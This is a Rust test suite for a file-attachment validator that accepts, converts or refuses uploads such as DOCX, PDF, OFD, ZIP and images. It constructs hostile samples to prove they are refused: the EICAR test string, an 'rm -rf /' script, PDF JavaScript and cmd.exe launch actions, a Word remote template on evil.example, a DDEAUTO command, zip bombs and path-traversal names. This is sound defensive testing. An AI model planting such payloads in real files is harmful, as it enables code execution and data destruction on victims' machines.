//! Files that people attach: every kind that is taken, and every reason why one is not.

use std::io::{Cursor, Write as _};

use image::{DynamicImage, GenericImageView as _, ImageFormat, Rgb, RgbImage};
use model::FileKind;
use office::attachment::{Accepted, Refusal, accept};
use zip::write::SimpleFileOptions;

const MOST: usize = 20 << 20;

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/tests/files/{name}", env!("CARGO_MANIFEST_DIR"))).expect("a file of the tests")
}

fn take(name: &str, bytes: &[u8]) -> Result<Accepted, Refusal> {
    accept(name, bytes.to_vec(), MOST)
}

fn refused(name: &str, bytes: &[u8]) -> String {
    match take(name, bytes) {
        Ok(accepted) => panic!("{} is taken as {:?}", accepted.name, accepted.kind),
        Err(refusal) => refusal.to_string(),
    }
}

fn zipped(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).expect("a part");
        zip.write_all(content).expect("its content");
    }
    zip.finish().expect("an archive").into_inner()
}

fn picture(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let drawn = RgbImage::from_fn(width, height, |x, y| {
        // The upper left quarter is red, the rest white: one sees which way it was turned.
        if x < width / 2 && y < height / 2 { Rgb([200, 20, 20]) } else { Rgb([255, 255, 255]) }
    });
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(drawn).write_to(&mut out, format).expect("a picture");
    out.into_inner()
}

/// The virus scanners' test file, put together here so that no scanner finds it in this one.
fn test_virus() -> Vec<u8> {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR", "-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"]
        .concat()
        .into_bytes()
}

fn program() -> Vec<u8> {
    let mut bytes = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    bytes.resize(512, 0);
    bytes
}

const TYPES: &[u8] =
    b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";

#[test]
fn every_kind_is_told_by_its_content_and_found_by_its_words() {
    let docx = take("会议记录.docx", &fixture("libreoffice.docx")).expect("taken");
    assert_eq!((docx.kind, docx.name.as_str()), (FileKind::Docx, "会议记录.docx"));
    assert!(docx.text.contains("技师学院"), "{}", docx.text);
    assert_eq!(docx.bytes, fixture("libreoffice.docx"), "a document is kept as it came");

    let pdf = take("没有后缀", &fixture("gbk-euc.pdf")).expect("taken");
    assert_eq!((pdf.kind, pdf.name.as_str()), (FileKind::Pdf, "没有后缀.pdf"));
    assert!(!pdf.text.is_empty());

    let xlsx = take("任务.xlsx", &fixture("tasks.xlsx")).expect("taken");
    assert_eq!(xlsx.kind, FileKind::Xlsx);
    assert!(!xlsx.text.is_empty());

    let slides = zipped(&[("[Content_Types].xml", TYPES), ("ppt/presentation.xml", b"<p/>")]);
    assert_eq!(take("课件.pptx", &slides).expect("taken").kind, FileKind::Pptx);

    let archive =
        zipped(&[("照片/一.jpg", &picture(8, 8, ImageFormat::Jpeg)), ("说明.txt", "活动照片".as_bytes())]);
    let archive = take("照片.docx", &archive).expect("taken");
    assert_eq!((archive.kind, archive.name.as_str()), (FileKind::Zip, "照片.docx.zip"));

    // The national layout of official documents is told by its content and kept as it came.
    let layout = zipped(&[("OFD.xml", b"<ofd:OFD/>"), ("Doc_0/Document.xml", b"<ofd:Document/>")]);
    let kept = take("批复.pdf", &layout).expect("taken");
    assert_eq!((kept.kind, kept.name.as_str(), kept.bytes == layout), (FileKind::Ofd, "批复.pdf.ofd", true));
    let disguised = zipped(&[("OFD.xml", b"<ofd:OFD/>"), ("Doc_0/run.exe", b"MZ")]);
    assert!(take("批复.ofd", &disguised).is_err(), "a program inside is refused");

    let scan = take("扫描.pdf", &fixture("scanned.pdf")).expect("a scan is taken");
    assert_eq!(scan.text, "", "and found by its name");
}

#[test]
fn what_a_machine_would_run_is_refused_whatever_it_is_called() {
    let virus = test_virus();
    assert!(refused("通知.pdf", &program()).contains("可执行程序"));
    assert!(
        refused("通知.docx", b"\x7fELF\x02\x01\x01\0 and the rest of it, which is long enough to be one")
            .contains("可执行程序")
    );
    assert!(refused("整理.pdf", b"#!/bin/sh\nrm -rf /\n").contains("可执行程序"));
    assert!(refused("测试.pdf", &virus).contains("病毒"));
    let mut hidden = fixture("gbk-euc.pdf");
    hidden.extend_from_slice(&virus);
    assert!(refused("通知.pdf", &hidden).contains("病毒"), "behind a document");

    let inside =
        |name: &str, content: &[u8]| refused("材料.zip", &zipped(&[("好.txt", b"1"), (name, content)]));
    assert!(inside("测试.txt", &virus).contains("“测试.txt”带有病毒"));
    assert!(inside("说明.txt", &program()).contains("“说明.txt”是可执行程序"));
    for name in ["安装.EXE", "一.bat", "二.js", "三.lnk", "四.vbs"] {
        assert!(inside(name, b"harmless").contains("可执行程序或脚本"), "{name}");
    }
    let nested = zipped(&[("里面.zip", &zipped(&[("测试.txt", &virus)]))]);
    assert!(refused("材料.zip", &nested).contains("病毒"));
    let mut word = vec![("[Content_Types].xml", TYPES), ("word/document.xml", b"<w/>".as_slice())];
    word.push(("word/embeddings/oleObject1.bin", &virus));
    assert!(refused("记录.docx", &zipped(&word)).contains("病毒"));
    assert!(inside("别的.rar", b"Rar!\x1a\x07\x01\0rest").contains("打不开来检查"));
}

#[test]
fn macros_are_refused_whatever_the_file_is_called() {
    let by_type = b"<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
    let parts: [&[(&str, &[u8])]; 3] = [
        &[("[Content_Types].xml", by_type), ("word/document.xml", b"<w/>")],
        &[("[Content_Types].xml", TYPES), ("word/document.xml", b"<w/>"), ("word/vbaProject.bin", b"x")],
        &[
            ("[Content_Types].xml", TYPES),
            ("xl/workbook.xml", b"<w/>"),
            ("xl/macrosheets/sheet1.xml", b"<x/>"),
        ],
    ];
    for parts in parts {
        let docm = zipped(parts);
        assert_eq!(take("记录.docx", &docm), Err(Refusal::Macros));
        assert_eq!(take("材料.zip", &zipped(&[("记录.docx", &docm)])), Err(Refusal::Macros));
    }
}

#[test]
fn archives_that_cannot_be_looked_into_or_never_end_are_refused() {
    // The bit that says so, in the head of the part and in the directory.
    let mut locked = zipped(&[("名单.txt", b"1")]);
    for (mark, at) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let head = locked.windows(4).position(|w| w == mark).expect("a head");
        locked[head + at] |= 1;
    }
    assert_eq!(take("名单.zip", &locked), Err(Refusal::Encrypted));

    let bomb = zipped(&[("零.txt", &vec![0; 24 << 20])]);
    assert!(bomb.len() < 100_000);
    assert!(matches!(take("零.zip", &bomb), Err(Refusal::Bomb { .. })));
    let mut deep = zipped(&[("底.txt", b"1")]);
    for _ in 0..3 {
        deep = zipped(&[("里面.zip", &deep)]);
    }
    assert!(matches!(take("套.zip", &deep), Err(Refusal::Bomb { .. })));
    let many: Vec<String> = (0..5000).map(|n| format!("{n}.txt")).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|n| (n.as_str(), b"".as_slice())).collect();
    assert!(matches!(take("多.zip", &zipped(&many)), Err(Refusal::Bomb { .. })));

    let whole = zipped(&[("一.txt", &picture(64, 64, ImageFormat::Png))]);
    assert!(matches!(take("半.zip", &whole[..whole.len() / 2]), Err(Refusal::Broken { .. })));
    let docx = fixture("libreoffice.docx");
    assert!(matches!(take("半.docx", &docx[..docx.len() / 2]), Err(Refusal::Broken { .. })));
    assert!(matches!(take("半.pdf", b"%PDF-1.7\nnothing of it"), Err(Refusal::Broken { .. })));
}

#[test]
fn other_kinds_are_told_what_to_do_instead() {
    let told = |name: &str, bytes: &[u8]| refused(name, bytes);
    assert!(told("a.doc", &fixture("libreoffice.doc")).contains("另存为 .docx"));
    assert!(told("a.xls", &fixture("tasks.xls")).contains("另存为 .docx、.xlsx"));
    assert!(told("a.odt", &fixture("libreoffice.odt")).contains("OpenDocument"));
    assert!(told("a.jpg", b"\0\0\0\x18ftypheic....").contains("HEIC"));
    assert!(told("a.gif", b"GIF89a......").contains("JPG 和 PNG"));
    assert!(told("a.zip", b"Rar!\x1a\x07\x01\0").contains("只收 ZIP"));
    assert!(told("a.txt", "会议记录".as_bytes()).contains("粘贴"));
    assert!(told("a.html", b"<html>").contains("PDF"));
    assert_eq!(take("a.pdf", b""), Err(Refusal::Empty));
    assert_eq!(accept("a.jpg", vec![0; 21], 20), Err(Refusal::TooLarge { most: 20 }));
    assert!(Refusal::TooLarge { most: MOST }.to_string().contains("20 MB"));
}

/// A photograph as a telephone held upright takes it: lying on its side, with a note of that, and of where it was.
fn photograph() -> Vec<u8> {
    let plain = picture(400, 300, ImageFormat::Jpeg);
    let mut notes = b"Exif\0\0II*\0\x08\0\0\0".to_vec();
    notes.extend_from_slice(&[2, 0]);
    // Orientation: 6, turned right; maker: a text after the table.
    notes.extend_from_slice(&[0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0]);
    notes.extend_from_slice(&[0x0f, 0x01, 2, 0, 16, 0, 0, 0, 38, 0, 0, 0]);
    notes.extend_from_slice(&[0, 0, 0, 0]);
    notes.extend_from_slice(b"GPS 39.90 116.40");
    let length = u16::try_from(notes.len() + 2).expect("short").to_be_bytes();
    [&plain[..2], &[0xff, 0xe1], &length, &notes, &plain[2..]].concat()
}

#[test]
fn a_photograph_is_turned_and_forgets_where_it_was_taken() {
    let came = photograph();
    assert!(came.windows(3).any(|w| w == b"GPS"));
    let kept = take("现场.jpg", &came).expect("taken");
    let drawn = image::load_from_memory_with_format(&kept.bytes, ImageFormat::Jpeg).expect("a picture");
    assert_eq!(drawn.dimensions(), (300, 400), "upright");
    let red = |x, y| drawn.get_pixel(x, y).0[1] < 100;
    assert!(
        red(280, 20) && !red(20, 20) && !red(280, 380),
        "what was at the upper left is at the upper right"
    );
    for left in [b"GPS".as_slice(), b"Exif"] {
        assert!(!kept.bytes.windows(left.len()).any(|w| w == left), "{left:?} is still in it");
    }
    let small = image::load_from_memory(&kept.small.expect("a small one")).expect("a picture");
    assert!(small.width() <= 240 && small.height() <= 240);
}

#[test]
fn large_pictures_are_shrunk_and_boundless_ones_refused() {
    let kept = take("全景.png", &picture(4000, 1000, ImageFormat::Png)).expect("taken");
    let drawn = image::load_from_memory_with_format(&kept.bytes, ImageFormat::Png).expect("a picture");
    assert_eq!(drawn.dimensions(), (2560, 640));
    let tiny = take("点.png", &picture(3, 2, ImageFormat::Png)).expect("taken");
    assert_eq!(image::load_from_memory(&tiny.bytes).expect("a picture").dimensions(), (3, 2));
    assert_eq!(
        image::load_from_memory(&tiny.small.expect("a small one")).expect("a picture").dimensions(),
        (3, 2)
    );

    let jpeg = picture(64, 64, ImageFormat::Jpeg);
    assert!(matches!(take("半.jpg", &jpeg[..60]), Err(Refusal::Broken { .. })));
}

/// A PNG that promises so many points of so many bits and has none of them: whatever is said of it is said of its head,
/// before anything is drawn.
fn promise(width: u32, height: u32, bits: u8, color: u8) -> Vec<u8> {
    let mut head = b"IHDR".to_vec();
    head.extend_from_slice(&width.to_be_bytes());
    head.extend_from_slice(&height.to_be_bytes());
    head.extend_from_slice(&[bits, color, 0, 0, 0]);
    let mut sum = flate2::Crc::new();
    sum.update(&head);
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\x0d".to_vec();
    png.extend_from_slice(&head);
    png.extend_from_slice(&sum.sum().to_be_bytes());
    png.extend_from_slice(b"\0\0\0\0IDAT\x35\xaf\x06\x1e");
    png
}

#[test]
fn what_would_take_too_much_to_draw_is_refused_by_its_head() {
    const GREY: u8 = 0;
    const COLOURS: u8 = 2;
    const WITH_ALPHA: u8 = 6;
    let refused =
        |width, height, bits, color| take("大.png", &promise(width, height, bits, color)).unwrap_err();
    assert_eq!(refused(60_000_000, 1, 8, GREY), Refusal::LongSide { side: 60_000_000, most: 20_000 });
    assert_eq!(refused(1, 20_001, 8, GREY), Refusal::LongSide { side: 20_001, most: 20_000 });
    assert_eq!(refused(30_000, 30_000, 8, COLOURS), Refusal::LongSide { side: 30_000, most: 20_000 });
    assert_eq!(refused(20_000, 20_000, 8, COLOURS), Refusal::ManyPixels { millions: 400, most: 64 });
    assert_eq!(refused(8_000, 8_000, 16, WITH_ALPHA), Refusal::ManyPixels { millions: 64, most: 40 });
    // As many in eight bits would be drawn; here there is nothing to draw.
    assert!(matches!(refused(20_000, 3_200, 8, COLOURS), Refusal::Broken { .. }));
}

/// A PDF of one page whose catalog says this too.
fn pdf_saying(more: &str) -> Vec<u8> {
    let objects = [
        format!("<< /Type /Catalog /Pages 2 0 R {more} >>"),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_owned(),
    ];
    let mut out = String::from("%PDF-1.4\n");
    let mut places = Vec::new();
    for (n, object) in objects.iter().enumerate() {
        places.push(out.len());
        out.push_str(&format!("{} 0 obj\n{object}\nendobj\n", n + 1));
    }
    let start = out.len();
    out.push_str(&format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1));
    places.iter().for_each(|p| out.push_str(&format!("{p:010} 00000 n \n")));
    out.push_str(&format!(
        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n",
        objects.len() + 1
    ));
    out.into_bytes()
}

#[test]
fn what_runs_or_is_carried_along_when_a_document_is_opened_is_not_taken() {
    assert!(take("空白.pdf", &pdf_saying("")).is_ok(), "a plain one is");
    assert!(
        take("到第一页.pdf", &pdf_saying("/OpenAction [3 0 R /Fit]")).is_ok(),
        "a place to begin runs nothing"
    );
    for more in [
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "/Names << /EmbeddedFiles << /Names [] >> >>",
    ] {
        assert!(matches!(take("通知.pdf", &pdf_saying(more)), Err(Refusal::Active { .. })), "{more}");
    }
    let packed = |words: &[u8]| {
        let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        packer.write_all(words).expect("packed");
        let packed = packer.finish().expect("packed");
        let head = format!("9 0 obj\n<< /Length {} /Filter /FlateDecode >>\nstream\n", packed.len());
        let plain = pdf_saying("");
        let at = plain.windows(4).position(|w| w == b"xref").expect("a table");
        [&plain[..at], head.as_bytes(), &packed, b"\nendstream\nendobj\n", &plain[at..]].concat()
    };
    assert!(take("说明.pdf", &packed(b"q Q")).is_ok());
    assert_eq!(take("说明.pdf", &packed(&test_virus())), Err(Refusal::Virus { inside: String::new() }));
    // More than one packing is more than is read: what runs is seen where it stands plainly.
    let deep = |more: &str| {
        pdf_saying(&format!("/X << /Length 0 /Filter [/FlateDecode /FlateDecode] >> {more} /Y (stream)"))
    };
    assert!(take("通知.pdf", &deep("")).is_ok());
    assert!(matches!(
        take("通知.pdf", &deep("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        Err(Refusal::Active { .. })
    ));
    let mut two = pdf_saying("");
    two.extend(zipped(&[("a.exe", b"MZ")]));
    assert!(matches!(take("两样.pdf", &two), Err(Refusal::Active { .. })), "an archive behind a PDF");

    let docx = |more: &[(&str, &[u8])]| {
        let mut parts: Vec<(&str, &[u8])> =
            vec![("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")];
        parts.retain(|(name, _)| more.iter().all(|(n, _)| n != name));
        parts.extend(more);
        take("记录.docx", &zipped(&parts))
    };
    let template: &[u8] = br#"<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let link: &[u8] = br#"<Relationships><Relationship Type="http://x/hyperlink" Target="http://www.example.cn" TargetMode="External"/></Relationships>"#;
    let dde: &[u8] = br#"<w:document><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:document>"#;
    assert!(matches!(docx(&[("word/_rels/settings.xml.rels", template)]), Err(Refusal::Active { .. })));
    assert!(matches!(docx(&[("word/embeddings/oleObject1.bin", b"x")]), Err(Refusal::Active { .. })));
    assert!(matches!(docx(&[("word/document.xml", dde)]), Err(Refusal::Active { .. })));
    assert!(
        !matches!(docx(&[("word/_rels/document.xml.rels", link)]), Err(Refusal::Active { .. })),
        "a link to a page"
    );

    for name in ["a.vbs.", "a.vbs::$DATA", "a.xll", "a.library-ms", "a.svg", "../../x.txt", "没有后缀"] {
        assert!(take("材料.zip", &zipped(&[("好.txt", b"1"), (name, b"x")])).is_err(), "{name}");
    }
    assert!(take("材料.zip", &zipped(&[("好.txt", b"1"), ("照片/.DS_Store", b"x")])).is_ok());
}
